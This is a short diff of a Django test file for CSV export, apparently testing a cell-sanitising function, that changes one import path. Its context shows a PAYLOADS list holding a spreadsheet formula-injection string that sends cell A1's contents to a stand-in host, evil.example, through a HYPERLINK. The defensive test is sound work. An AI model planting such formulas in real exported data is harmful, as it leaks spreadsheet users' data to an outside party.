@@ -7,8 +7,8 @@ import io
 import pytest
 from django.core.cache import cache
 
-from chm.csv_export import csv_writer, safe_cell
 from community.models import CountryPage
+from core.csv_export import csv_writer, safe_cell
 
 PAYLOADS = [
     '=HYPERLINK("https://evil.example/?"&A1,"Benin")',
